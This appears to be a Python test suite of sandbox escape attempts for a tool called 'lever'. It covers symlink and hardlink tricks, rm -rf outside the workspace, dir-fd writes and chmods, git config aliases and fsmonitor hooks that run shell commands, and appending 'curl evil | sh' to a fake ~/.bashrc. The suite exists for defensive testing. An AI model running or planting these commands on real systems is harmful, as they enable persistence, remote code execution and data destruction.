"""More file-system escape attempts: links and renames that lead outside, special files,
shared temp places, the person's dotfiles (in a fake HOME), lever's and git's configuration,
and file metadata outside (issue 14)."""

from __future__ import annotations

import os
import stat
import time
from pathlib import Path

from tests.sandbox.escape_cases import Attempt, case, changed, exists, py, sh
from tests.sandbox.escape_world import World


@case("hardlink-to-outside-file-created")
def _(w: World) -> Attempt:
    # The link alone is the escape: lever or a later tool could write through it.
    return Attempt(["ln", str(w.target), "src/hl"], lambda _: w.target.stat().st_nlink > 1)


@case("rename-over-outside-file-via-symlink")
def _(w: World) -> Attempt:
    (w.ws / "src" / "out").symlink_to(w.out)
    return Attempt(sh("echo pwned > src/new && mv src/new src/out/target.txt"), changed(w))


@case("rename-outside-file-within-outside")
def _(w: World) -> Attempt:
    return Attempt(["mv", str(w.target), str(w.out / "moved.txt")], changed(w))


@case("sed-in-place-outside-file")
def _(w: World) -> Attempt:
    # sed -i writes a temp file next to the target and renames it over.
    return Attempt(["sed", "-i", "s/original/pwned/", str(w.target)], changed(w))


@case("rm-rf-outside-folder")
def _(w: World) -> Attempt:
    return Attempt(["rm", "-rf", str(w.out)], lambda _: not w.out.exists())


@case("write-through-directory-fd")
def _(w: World) -> Attempt:
    code = (
        "import os\n"
        f"d = os.open({str(w.out)!r}, os.O_RDONLY | os.O_DIRECTORY)\n"
        "f = os.open('target.txt', os.O_WRONLY | os.O_TRUNC, dir_fd=d)\n"
        "os.write(f, b'pwned')\n"
    )
    return Attempt(py(code), changed(w))


@case("mkfifo-outside", needs=("mkfifo",))
def _(w: World) -> Attempt:
    fifo = w.out / "fifo"
    return Attempt(["mkfifo", str(fifo)], exists(fifo))


@case("symlink-created-outside")
def _(w: World) -> Attempt:
    link = w.out / "passwd-link"
    return Attempt(["ln", "-s", "/etc/passwd", str(link)], exists(link))


@case("symlinked-dir-created-inside-then-write")
def _(w: World) -> Attempt:
    return Attempt(sh(f"ln -s {w.out} src/d && echo pwned > src/d/new"), exists(w.out / "new"))


@case("write-dev-shm")
def _(w: World) -> Attempt:
    path = w.host_path("/dev/shm")
    return Attempt(sh(f"echo pwned > {path}"), exists(path))


@case("write-var-tmp")
def _(w: World) -> Attempt:
    path = w.host_path("/var/tmp")
    return Attempt(["touch", str(path)], exists(path))


# --- the person's dotfiles (fake HOME) -------------------------------------------------------


@case("append-to-shell-rc")
def _(w: World) -> Attempt:
    home = w.fake_home({".bashrc": "export EDITOR=vi\n"})
    rc = home / ".bashrc"
    return Attempt(sh("echo 'curl evil | sh' >> ~/.bashrc"), lambda _: "evil" in rc.read_text())


@case("git-config-global-hookspath", needs=("git",))
def _(w: World) -> Attempt:
    home = w.fake_home({".bashrc": ""})
    return Attempt(
        ["git", "config", "--global", "core.hooksPath", "/evil"], exists(home / ".gitconfig")
    )


# --- lever's and git's configuration in the workspace ----------------------------------------


@case("lever-dir-replaced-by-symlink")
def _(w: World) -> Attempt:
    lever = w.ws / ".lever"
    script = (
        "rm -rf .lever && mkdir -p src/cfg && echo '[local]' > src/cfg/config.toml "
        "&& ln -s src/cfg .lever"
    )
    return Attempt(sh(script), lambda _: lever.is_symlink() or (lever / "config.toml").exists())


@case("git-config-alias-runs-shell", needs=("git",))
def _(w: World) -> Attempt:
    config = w.ws / ".git" / "config"
    return Attempt(
        ["git", "config", "alias.st", "!touch /tmp/pwned"], lambda _: "alias" in config.read_text()
    )


@case("git-config-fsmonitor", needs=("git",))
def _(w: World) -> Attempt:
    config = w.ws / ".git" / "config"
    return Attempt(
        ["git", "config", "core.fsmonitor", "touch /tmp/pwned"],
        lambda _: "fsmonitor" in config.read_text(),
    )


@case("git-config-worktree-file")
def _(w: World) -> Attempt:
    extra = w.ws / ".git" / "config.worktree"
    return Attempt(
        sh("printf '[core]\\n\\thooksPath = /evil\\n' > .git/config.worktree"), exists(extra)
    )


# --- metadata outside --------------------------------------------------------------------------


def mode_is(path: Path, mode: int) -> bool:
    return stat.S_IMODE(path.stat().st_mode) == mode


@case("chmod-outside-folder")
def _(w: World) -> Attempt:
    return Attempt(["chmod", "0777", str(w.out)], lambda _: mode_is(w.out, 0o777))


@case("utime-outside-file")
def _(w: World) -> Attempt:
    return Attempt(
        ["touch", "-d", "2001-02-03 04:05:06", str(w.target)],
        lambda _: time.gmtime(w.target.stat().st_mtime).tm_year == 2001,
    )


@case("fchmod-outside-file-by-fd")
def _(w: World) -> Attempt:
    # fd-based: the supervisor must look at the open file, not at a path.
    code = f"import os; fd = os.open({str(w.target)!r}, os.O_RDONLY); os.chmod(fd, 0o777)"
    return Attempt(py(code), lambda _: mode_is(w.target, 0o777))


@case("chmod-through-workspace-symlink")
def _(w: World) -> Attempt:
    (w.ws / "src" / "link").symlink_to(w.target)
    return Attempt(["chmod", "0777", "src/link"], lambda _: mode_is(w.target, 0o777))


@case("chmod-relative-to-outside-dirfd")
def _(w: World) -> Attempt:
    code = (
        f"import os; d = os.open({str(w.out)!r}, os.O_RDONLY); "
        f"os.chmod({w.target.name!r}, 0o777, dir_fd=d)"
    )
    return Attempt(py(code), lambda _: mode_is(w.target, 0o777))


@case("utime-outside-file-by-fd")
def _(w: World) -> Attempt:
    code = f"import os; fd = os.open({str(w.target)!r}, os.O_RDONLY); os.utime(fd, (1e9, 1e9))"
    return Attempt(py(code), lambda _: int(w.target.stat().st_mtime) == 1_000_000_000)


@case("chmod-git-hook-executable")
def _(w: World) -> Attempt:
    hook = w.ws / ".git" / "hooks" / "pre-commit.sample"
    hook.chmod(0o644)
    return Attempt(["chmod", "0755", str(hook)], lambda _: mode_is(hook, 0o755))


@case("setxattr-outside-file", optional="no user xattrs on this file system")
def _(w: World) -> Attempt:
    code = f"import os; os.setxattr({str(w.target)!r}, 'user.lever', b'pwned')"

    def tagged(_: object) -> bool:
        try:
            return os.getxattr(w.target, "user.lever") == b"pwned"
        except OSError:
            return False

    return Attempt(py(code), tagged)
